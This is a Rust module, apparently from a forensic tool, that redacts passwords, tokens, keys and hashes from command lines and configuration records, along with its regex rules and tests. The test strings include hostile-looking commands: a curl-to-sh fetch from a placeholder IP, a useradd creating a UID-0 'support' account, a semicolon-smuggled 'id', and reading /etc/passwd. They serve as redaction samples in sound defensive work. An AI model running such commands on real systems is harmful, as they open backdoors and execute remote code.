//! Takes what looks like a secret out of command lines and settings, before they become records.
//!
//! A record is for reading, sharing and searching; the file that it was made from is evidence and stays whole. So this errs on the side of
//! taking out: a password that is left in does harm, a harmless word that is taken out can be looked up. It knows the ways in which
//! programs of this field are given passwords; a password alone on a line looks like any word and stays.

use crate::model::{Program, RawText, Record, Setting, SudoersEntry};
use regex::bytes::{Regex, RegexSet};
use std::sync::LazyLock;

/// What stands in the place of a secret.
pub const MARK: &[u8] = b"[redacted]";

/// One word of a shell, quoted or not, in pieces.
const VALUE: &str = r#"(?P<secret>(?:'[^']*'?|"(?:\\.|[^"\\])*"?|\\.|[^\s'"\\;|&<>()`,])+)"#;

/// The rules. `VALUE` stands for one word that is taken out.
const RULES: &[&str] = &[
    // `SHA1('x')` in SQL, before a rule about assignments takes the function for the value.
    r#"(?i-u)\b(?:password|old_password|md5|sha1|sha|sha2|encrypt|crypt|aes_encrypt|aes_decrypt)\s*\(\s*(?P<secret>'(?:\\.|[^'\\])*'|"(?:\\.|[^"\\])*")"#,
    // `--password=x`, `--db-token x`, `-password x`; not `--password-file`.
    r#"(?i-u)(?:^|[\s'"])--?(?:[a-z0-9_-]*[_-])?(?:password|passwd|passphrase|pass|pwd|token|secret|api-?key|access-?key|secret-?key|credentials?)(?:=|\s+)VALUE"#,
    // `DB_PASSWORD=x`, `secret = x`, `"apiKey": "x"`, `AMPDBPASS x` in settings; not `PWD=` and `OLDPWD=`, which are folders.
    r#"(?i-u)(?:password|passwd|passphrase|[a-z0-9]_pwd|\bmysql_pwd|[a-z0-9_]pass|\bpass|secret|token|api_?key|access_?key|secret_?key|private_?key|credentials?)[a-z0-9_]*["']?\]?\s*(?:=>|[:=])\s*VALUE"#,
    r"(?i-u)\bsetting\s+(?:-\S+\s+)*\w*(?:pass|secret|token|key)\w*\s+VALUE",
    // `mysql -pX`, `mysqldump … -p'X'`; a lone `-p` asks.
    r"(?i-u)\b(?:mysql|mariadb)[a-z-]*\b[^;|&\n]*?\s-p(?P<secret>[^\s;|&]+)",
    r"(?i-u)\b(?:sshpass|mongo|mongosh|mongodump|mosquitto_pub|useradd|usermod|chpasswd|7z|7za|unzip|zip|rar)\b[^;|&\n]*?\s-[pP]\s*VALUE",
    r"(?i-u)\b(?:redis-cli|keydb-cli)\b[^;|&\n]*?\s-a\s+VALUE",
    r"(?i-u)\b(?:ldapsearch|ldapmodify|ldapadd|ldapwhoami)\b[^;|&\n]*?\s-w\s*VALUE",
    r"(?i-u)\bhtpasswd\b[^;|&\n]*?\s-[a-z]*b[a-z]*\s+\S+\s+\S+\s+VALUE",
    r"(?i-u)\bopenssl\s+passwd\b(?:\s+-\S+)*\s+VALUE",
    r"(?i-u)\bpass(?:in|out)?[\s=]+(?:pass|env):VALUE",
    // `curl -u user:x`, `wget --user=…`, `smbclient -U user%x`.
    r#"(?i-u)\b(?:curl|wget|lftp|http|https)\b[^;|&\n]*?\s(?:-[a-z]*u|--user|--proxy-user)(?:=|\s*)['"]?[^\s:'"]+:VALUE"#,
    r#"(?i-u)\b(?:smbclient|rpcclient|mount\.cifs|winexe)\b[^;|&\n]*?\s-U\s*['"]?[^\s%'"]+%VALUE"#,
    // `echo x | passwd --stdin`, `echo user:x | chpasswd`.
    r"(?i-u)\b(?:echo|printf)\s+(?:-\S+\s+)*(?P<secret>[^|;&\n]+?)\s*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:passwd|chpasswd|sudo\s+-[a-z]*S)",
    r"(?i-u)\b(?:chpasswd|passwd\s+--stdin[^<\n]*)\s*<<<?\s*VALUE",
    r#"(?i-u)[?&](?:auth|pass|pwd|key|sig|signature|code)=(?P<secret>[^\s&'"]+)"#,
    // A URL with a password in it.
    r#"(?i-u)\b[a-z][a-z0-9+.-]*://[^\s/@:'"]*:(?P<secret>[^\s/'"]+)@"#,
    // HTTP headers.
    r#"(?i-u)\b(?:proxy-)?authorization\s*:\s*(?:[a-z]+\s+)?(?P<secret>[^\s'",;]+)"#,
    r#"(?i-u)\b(?:x-[a-z-]*(?:token|key|auth)|private-token|cookie|set-cookie)\s*:\s*(?P<secret>[^'"\n]+)"#,
    // SQL.
    r"(?i-u)\bidentified\s+(?:with\s+\S+\s+)?(?:by|as)\s+(?:password\s+)?VALUE",
    r"(?i-u)\bset\s+password\b[^=\n]*=\s*VALUE",
    // Rows of accounts: everything in the brackets.
    r"(?i-u)\binto\s+\S*(?:users?|ampusers|userman_users|sip|pjsip|manager)\b[^;\n]*?\bvalues?\s*(?P<secret>\([^;\n]+\))",
    // Hashes and keys that show what they are.
    r"(?-u)(?P<secret>\$(?:1|2[abxy]?|5|6|7|y|gy|sha1|md5|apr1|argon2(?:id?|d)|P|H|pbkdf2[a-z0-9-]*)\$[./A-Za-z0-9$=,+_-]{8,})",
    r"(?-u)(?P<secret>\{(?:S?SHA(?:256|512)?|S?MD5|CRYPT)\}[./A-Za-z0-9$=+]+)",
    r"(?-u)\b(?P<secret>(?:gh[pousr]_|github_pat_|glpat-|xox[abeprs]-|sk_live_|rk_live_|sk-)[A-Za-z0-9_-]{16,})",
    r"(?-u)\b(?P<secret>(?:AKIA|ASIA)[0-9A-Z]{16})\b",
    r"(?-u)(?P<secret>\beyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]*)",
    r"(?s-u)-----BEGIN [A-Z ]*PRIVATE KEY-----(?P<secret>.+)",
];

struct Rules {
    any: RegexSet,
    each: Vec<Regex>,
}

static COMPILED: LazyLock<Option<Rules>> = LazyLock::new(|| {
    let texts: Vec<String> = RULES.iter().map(|rule| rule.replace("VALUE", VALUE)).collect();
    Some(Rules {
        any: RegexSet::new(&texts).ok()?,
        each: texts.iter().map(|text| Regex::new(text).ok()).collect::<Option<_>>()?,
    })
});

/// The text with [`MARK`] in the place of each secret; none where there is nothing to take out.
pub fn redact(text: &[u8]) -> Option<Vec<u8>> {
    let Some(rules) = COMPILED.as_ref() else {
        // A rule that does not compile is found by the tests; until then nothing may leak.
        return Some(MARK.to_vec());
    };
    let mut out: Option<Vec<u8>> = None;
    for index in rules.any.matches(text) {
        let Some(rule) = rules.each.get(index) else { continue };
        let current = out.as_deref().unwrap_or(text);
        let mut next = Vec::with_capacity(current.len());
        let mut done = 0;
        for found in rule.captures_iter(current) {
            let Some(secret) = found.name("secret") else { continue };
            // The tags of sudoers are followed by a command.
            let is_tag = found.get(0).is_some_and(|all| {
                let all = all.as_bytes();
                // A rule may begin at the last letter of `NO`.
                all.starts_with(b"PASSWD:") || all.starts_with(b"OPASSWD:")
            });
            if is_tag || is_harmless(secret.as_bytes()) {
                continue;
            }
            next.extend_from_slice(current.get(done..secret.start()).unwrap_or_default());
            next.extend_from_slice(MARK);
            done = secret.end();
        }
        if done > 0 {
            next.extend_from_slice(current.get(done..).unwrap_or_default());
            out = Some(next);
        }
    }
    out
}

/// What is no secret in the place of one: another option, a variable by its name, the mark itself.
fn is_harmless(value: &[u8]) -> bool {
    let inner = value.strip_prefix(b"\"").map_or(value, |rest| rest.strip_suffix(b"\"").unwrap_or(rest));
    let name = inner
        .strip_prefix(b"$")
        .map(|rest| rest.strip_prefix(b"{").and_then(|rest| rest.strip_suffix(b"}")).unwrap_or(rest));
    value.starts_with(b"-")
        || value.starts_with(MARK)
        || name.is_some_and(|name| {
            // `$1`, `$PASS` are names; `$1$…` is a hash.
            !name.is_empty() && name.iter().all(|b| b.is_ascii_alphanumeric() || *b == b'_')
        })
}

/// Says whether a setting is a secret by its name. `ssh` and `sshd` have none, but names that sound so (`PasswordAuthentication`).
fn is_secret_name(setting: &Setting) -> bool {
    const PARTS: [&str; 5] = ["password", "passwd", "secret", "token", "default_pw"];
    let name = setting.name.to_ascii_lowercase();
    !matches!(setting.program, Program::Ssh | Program::Sshd) && PARTS.iter().any(|part| name.contains(part))
}

/// Takes the secrets out of everything in a record that is free text. Parsers do it where a value is a secret by its name; this is
/// what every record goes through besides.
pub(super) fn record(mut record: Record) -> Record {
    let clean = |field: &mut RawText| {
        if let Some(redacted) = redact(field.as_bytes()) {
            *field = redacted.into();
        }
    };
    match &mut record {
        Record::Cron(job) => [&mut job.command, &mut job.text].into_iter().for_each(clean),
        Record::AuthorizedKey(key) => {
            [&mut key.options, &mut key.comment, &mut key.text].into_iter().for_each(clean);
        }
        Record::Unit(unit) => unit.settings.iter_mut().for_each(|(_, _, value)| clean(value)),
        Record::Sudoers(line) => {
            clean(&mut line.text);
            match &mut line.entry {
                SudoersEntry::Rule { command, .. } => clean(command),
                SudoersEntry::Alias { members, .. } => members.iter_mut().for_each(clean),
                SudoersEntry::Defaults { options, .. } => options.iter_mut().for_each(clean),
                SudoersEntry::Include { .. } => {}
            }
        }
        Record::StartupCommand(startup) => {
            [&mut startup.trigger, &mut startup.command, &mut startup.text].into_iter().for_each(clean);
        }
        Record::Setting(setting) if is_secret_name(setting) => setting.value = MARK.into(),
        Record::Setting(setting) => clean(&mut setting.value),
        Record::Fstab(mount) => {
            clean(&mut mount.device);
            mount.options.iter_mut().for_each(clean);
        }
        Record::PamRule(rule) => clean(&mut rule.arguments),
        Record::PackageEvent(event) => clean(&mut event.command),
        Record::TypedCommand(typed) => {
            let before = typed.command.clone();
            clean(&mut typed.command);
            typed.is_redacted |= typed.command != before;
        }
        Record::AuthEvent(event) => [&mut event.command, &mut event.message].into_iter().for_each(clean),
        Record::AuditEvent(event) => {
            clean(&mut event.command);
            event.fields.iter_mut().for_each(|(_, value)| clean(value));
        }
        Record::Account(account) => clean(&mut account.gecos),
        _ => {}
    }
    record
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn shown(text: &str) -> String {
        let out = redact(text.as_bytes()).unwrap_or_else(|| text.as_bytes().to_vec());
        String::from_utf8(out).unwrap()
    }

    #[test]
    fn every_rule_compiles() {
        assert!(COMPILED.is_some());
    }

    /// Each of these holds `hunter2` or a part of it; none may hold it afterwards.
    #[test]
    fn no_password_is_left_in_a_command() {
        for text in [
            "mysql -u root -phunter2 asterisk",
            "mysqldump --password=hunter2 asterisk",
            "mysql --password='hunter2 and more' -e x",
            "mysqladmin -uroot -p\"hunter2\" shutdown",
            "MYSQL_PWD=hunter2 mysql",
            "PGPASSWORD=hunter2 psql",
            "export DB_PASSWORD=\"hunter2\"",
            "export SECRET=hunter2",
            "export GITHUB_TOKEN=hunter2",
            "sshpass -p hunter2 ssh root@192.0.2.1",
            "sshpass -phunter2 ssh root@192.0.2.1",
            "SSHPASS=hunter2 sshpass -e ssh x",
            "curl -u admin:hunter2 http://192.0.2.1/",
            "curl --user admin:hunter2 http://192.0.2.1/",
            "curl -su admin:hunter2 http://192.0.2.1/",
            "wget http://admin:hunter2@192.0.2.1/x",
            "mysql://root:hunter2@localhost/asterisk",
            "git clone https://x:hunter2@example.org/a.git",
            "curl -H 'Authorization: Bearer hunter2' http://192.0.2.1/",
            "curl -H \"X-Auth-Token: hunter2\" http://192.0.2.1/",
            "echo root:hunter2 | chpasswd",
            "echo 'root:hunter2' | sudo chpasswd",
            "echo hunter2 | passwd --stdin root",
            "echo hunter2 | sudo -S id",
            "chpasswd <<< root:hunter2",
            "useradd -o -u 0 -p hunter2 support",
            "usermod -p 'hunter2' root",
            "redis-cli -a hunter2 info",
            "htpasswd -b /etc/x admin hunter2",
            "htpasswd -cb /etc/x admin hunter2",
            "openssl passwd -1 hunter2",
            "openssl enc -aes-256-cbc -pass pass:hunter2",
            "ldapsearch -x -w hunter2",
            "smbclient //x/y -U admin%hunter2",
            "unzip -P hunter2 a.zip",
            "fwconsole setting AMPDBPASS hunter2",
            "fwconsole userman --set-password hunter2",
            "ALTER USER 'root'@'localhost' IDENTIFIED BY 'hunter2';",
            "GRANT ALL ON *.* TO x IDENTIFIED BY PASSWORD 'hunter2'",
            "SET PASSWORD FOR x = PASSWORD('hunter2');",
            "UPDATE ampusers SET password_sha1 = 'hunter2' WHERE username='admin'",
            "update ampusers set password_sha1=SHA1('hunter2')",
            "INSERT INTO ampusers (username,password_sha1) VALUES ('x','hunter2');",
            "php -r '$amp_conf[\"AMPDBPASS\"] = \"hunter2\";'",
            "eve ALL=(ALL) NOPASSWD: /usr/bin/mysql -u root -phunter2",
            "tcp://192.0.2.1:6379?auth=hunter2&x=1",
            "docker run -e MYSQL_ROOT_PASSWORD=hunter2 mariadb",
            "secret=hunter2",
            "x --api-key hunter2",
            "x --db-password hunter2 --y",
            "root:$6$hunter2hunter2$hunter2",
            "{\"token\": \"hunter2\"}",
            "-----BEGIN OPENSSH PRIVATE KEY----- hunter2",
            "amixer password=hunter2;id",
        ] {
            let out = shown(text);
            assert!(!out.contains("hunter2"), "{text} -> {out}");
            assert!(out.contains("[redacted]"));
        }
    }

    #[test]
    fn what_is_no_secret_stays() {
        for text in [
            "root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/bin/ls",
            "OLDPWD=/tmp",
            "mysql -u root -p asterisk_unknown_database_follows_a_blank",
            "passwd root",
            "cat /etc/passwd",
            "tar -p -xf a.tar",
            "mkdir -p /tmp/x",
            "ssh -p 22 root@192.0.2.1",
            "curl http://192.0.2.1/x.sh | sh",
            "mysql --password",
            "eve ALL=(ALL) NOPASSWD: /bin/systemctl restart x, PASSWD: /bin/ls",
            "mysql --password=\"$PASS\"",
            "chage -l root",
            "if [ \"${PS1-}\" ]; then",
            "PATH=/usr/local/bin:/usr/bin",
            "fwconsole ma upgradeall",
        ] {
            assert_eq!(shown(text), text);
        }
    }

    #[test]
    fn the_rest_of_the_line_is_kept() {
        assert_eq!(
            shown("mysql -uroot -phunter2 -e 'select 1' && curl http://192.0.2.1/x"),
            "mysql -uroot -p[redacted] -e 'select 1' && curl http://192.0.2.1/x"
        );
        assert_eq!(shown("wget ftp://u:p@192.0.2.1/x -O /tmp/x"), "wget ftp://u:[redacted]@192.0.2.1/x -O /tmp/x");
    }

    proptest! {
        #[test]
        fn redacting_twice_is_redacting_once(text in "[ -~]{0,60}(password=|-p|://u:|token: )[ -~]{0,40}") {
            let once = shown(&text);
            prop_assert_eq!(shown(&once), once);
        }

        #[test]
        fn no_bytes_break_it(bytes in prop::collection::vec(any::<u8>(), 0..200)) {
            redact(&bytes);
        }
    }
}
